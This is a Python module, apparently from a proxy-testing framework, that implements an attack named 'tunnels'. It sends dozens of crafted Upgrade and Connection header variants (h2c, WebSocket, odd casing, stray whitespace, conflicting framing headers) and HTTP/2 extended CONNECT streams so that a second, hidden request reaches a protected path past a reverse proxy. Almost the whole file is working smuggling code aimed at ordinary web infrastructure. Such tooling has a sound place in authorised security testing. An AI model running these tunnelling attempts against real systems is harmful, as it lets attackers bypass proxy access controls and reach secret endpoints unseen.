"""Tunnels through a free page.

Where a proxy passes a wish to switch protocols on, and the site agrees, the connection becomes a tunnel: whatever the client
says next goes to the site unseen. Sites that know h2c agree to `Upgrade: h2c` on any page, and then answer any request on
streams of their own. Some proxies open the tunnel before the site has agreed, or when it has not.
"""

from collections.abc import Iterator

from core import http1, http2
from core.attack import Attack, Need, Outcome, Try
from core.http1 import Headers
from core.scene import PATIENCE_SECONDS, TRY_HEADER, Scene
from core.target import HTTP2_SETTINGS, Way
from core.wire import Connection, Door, answered

KEY = (b"Sec-WebSocket-Key", b"dGhlIHNhbXBsZSBub25jZQ==")
SETTINGS = (b"HTTP2-Settings", HTTP2_SETTINGS)
SWITCHED_SECONDS = 0.5
"""A tunnel that is open answers at once."""


def tries(scene: Scene) -> Iterator[Try]:
    target = scene.target
    free = target.free_path or b"/"
    for door in (target.plain, target.tls):
        if door is None:
            continue
        for number, headers in enumerate([*_h2c(), *_others()]):
            asked = [(b"GET", free), (b"POST", free), (b"GET", target.path), (b"OPTIONS", target.path)]
            if number == 0:
                asked += [(b"OPTIONS", free), (b"HEAD", free), (b"GET", b"/"), (b"CONNECT", free), (b"PUT", free)]
            for method, path in asked:
                words = b", ".join(name + b": " + value for name, value in headers).decode(errors="replace")
                name = f"{door} {method.decode()} {path.decode()} [{number}] {words[:150]}"
                mark = scene.mark()
                run = _Tunnel(scene, door, method, path, headers, mark)
                needs = (Need.SECRET,) if path == target.path else (Need.SECRET, Need.FREE)
                yield Try(name + ", h2 behind", run.with_http2, needs)
                yield Try(name + ", HTTP/1.1 behind", run.with_http1, needs)
    for way in (Way.H2, Way.H2C):
        for protocol in (b"websocket", b"connect-tcp", b"h2c", b"connect-udp"):
            yield Try(f"{way.value} extended CONNECT of {protocol!r}",
                      _Stream(scene, way, free, protocol, scene.mark()), (Need.SECRET, *target.needs(way)))  # fmt: skip


def _h2c() -> list[Headers]:
    """Ways to ask for HTTP/2."""
    upgrade = (b"Upgrade", b"h2c")
    return [
        [(b"Connection", b"Upgrade, HTTP2-Settings"), upgrade, SETTINGS],
        [(b"Connection", b"Upgrade"), upgrade, SETTINGS],
        [(b"Connection", b"HTTP2-Settings"), upgrade, SETTINGS],
        [(b"Connection", b"upgrade"), upgrade],
        [(b"Connection", b"keep-alive, Upgrade"), upgrade, SETTINGS],
        [(b"Connection", b"Upgrade"), (b"Connection", b"HTTP2-Settings"), upgrade, SETTINGS],
        [(b"Connection", b"close, Upgrade"), upgrade, SETTINGS],
        [upgrade, SETTINGS],
        [(b"Connection", b"Upgrade"), (b"Upgrade", b"H2C"), SETTINGS],
        [(b"Connection", b"Upgrade"), (b"Upgrade", b"h2c, websocket"), SETTINGS],
        [(b"Connection", b"Upgrade"), (b"Upgrade", b"websocket, h2c"), SETTINGS, KEY],
        [(b"Connection", b"Upgrade"), (b"Upgrade", b"websocket"), upgrade, SETTINGS, KEY],
        [(b"Connection", b"Upgrade"), upgrade, (b"Upgrade", b"websocket"), SETTINGS, KEY],
        [(b"Connection", b"Upgrade"), (b"Upgrade", b"\th2c "), SETTINGS],
        [(b"Connection", b"Upgrade"), (b"Upgrade", b"h2"), SETTINGS],
        [(b"Connection", b"Upgrade"), (b"Upgrade", b"HTTP/2.0, h2c"), SETTINGS],
        [(b"Connection", b"Upgrade"), (b"Upgrade_", b"h2c"), SETTINGS],
        [(b"Proxy-Connection", b"Upgrade"), upgrade, SETTINGS],
        [(b"Connection", b"Upgrade"), upgrade, SETTINGS, (b"Content-Length", b"0")],
        [(b"Connection", b"Upgrade"), upgrade, SETTINGS, (b"Expect", b"100-continue")],
        [(b"Connection", b"Upgrade"), upgrade, SETTINGS, (b"Transfer-Encoding", b"chunked")],
    ]


def _others() -> list[Headers]:
    """Other protocols, and WebSockets that no site can agree to."""
    connection = (b"Connection", b"Upgrade")
    version = (b"Sec-WebSocket-Version", b"13")
    websocket = (b"Upgrade", b"websocket")
    return [
        [connection, websocket, KEY, version],
        [connection, websocket, KEY, (b"Sec-WebSocket-Version", b"1")],
        [connection, websocket],
        [websocket, KEY, version],
        [connection, (b"Upgrade", b"WebSocket"), KEY, version],
        [connection, websocket, KEY, version, (b"Content-Length", b"0")],
        [connection, websocket, KEY, version, (b"Content-Length", b"400")],
        [connection, websocket, KEY, version, (b"Transfer-Encoding", b"chunked")],
        [connection, (b"Upgrade", b"TLS/1.0")],
        [connection, (b"Upgrade", b"HTTP/1.1")],
        [connection, (b"Upgrade", b"x")],
        [connection, (b"Upgrade", b"")],
        [(b"Upgrade", b"")],
        [(b"Upgrade", b"x")],
    ]


class _Tunnel:
    """A request that asks for a tunnel, and another right behind it, whether there is one or not."""

    def __init__(self, scene: Scene, door: Door, method: bytes, path: bytes, headers: Headers, mark: bytes):
        self.scene, self.door, self.method, self.path, self.headers, self.mark = scene, door, method, path, headers, mark

    async def with_http2(self) -> Outcome:
        target = self.scene.target
        inner = http2.request(b"GET", target.path, target.host, b"http", [(b"x-try", self.mark)], stream=3)
        return await self._run(http2.start() + inner)

    async def with_http1(self) -> Outcome:
        target = self.scene.target
        fields = [(b"Host", target.host), (TRY_HEADER, self.mark), (b"Connection", b"close")]
        return await self._run(http1.request(b"GET", target.path, fields))

    async def _run(self, behind: bytes) -> Outcome:
        # The first request has no mark: what counts is whether the one behind it arrives.
        head = http1.request(self.method, self.path, [(b"Host", self.scene.target.host), *self.headers])
        exchanges = []
        for at_once in (True, False):
            async with Connection(self.door, patience=PATIENCE_SECONDS) as connection:
                await connection.send(head + (behind if at_once else b""), self.method, b"GET")
                if not at_once:
                    await connection.read(lambda exchange: bool(exchange.messages()))
                    await connection.send(behind)
                exchanges.append(await connection.read(answered(2), SWITCHED_SECONDS))
        return self.scene.judge(exchanges, self.mark)


class _Stream:
    """A stream that asks for a tunnel, and a request in it."""

    def __init__(self, scene: Scene, way: Way, path: bytes, protocol: bytes, mark: bytes):
        self.scene, self.way, self.path, self.protocol, self.mark = scene, way, path, protocol, mark

    async def __call__(self) -> Outcome:
        target = self.scene.target
        door = target.door(self.way)
        assert door
        scheme = b"https" if door.tls else b"http"
        fields = [(b":method", b"CONNECT"), (b":protocol", self.protocol), (b":scheme", scheme), (b":path", self.path),
                  (b":authority", target.host)]  # fmt: skip
        inner = http1.request(b"GET", target.path, [(b"Host", target.host), (TRY_HEADER, self.mark)])
        async with Connection(door, alpn="h2", patience=PATIENCE_SECONDS) as connection:
            await connection.send(http2.start() + http2.headers(fields, end=False) + http2.frame(http2.DATA, 0, 1, inner))
            exchange = await connection.read(lambda _: False, SWITCHED_SECONDS)
        return self.scene.judge([exchange], self.mark)


ATTACK = Attack("tunnels", 6, "switching protocols on a free page, to speak with the site unseen", tries,
                origins=frozenset({"plain", "framing"}))  # fmt: skip
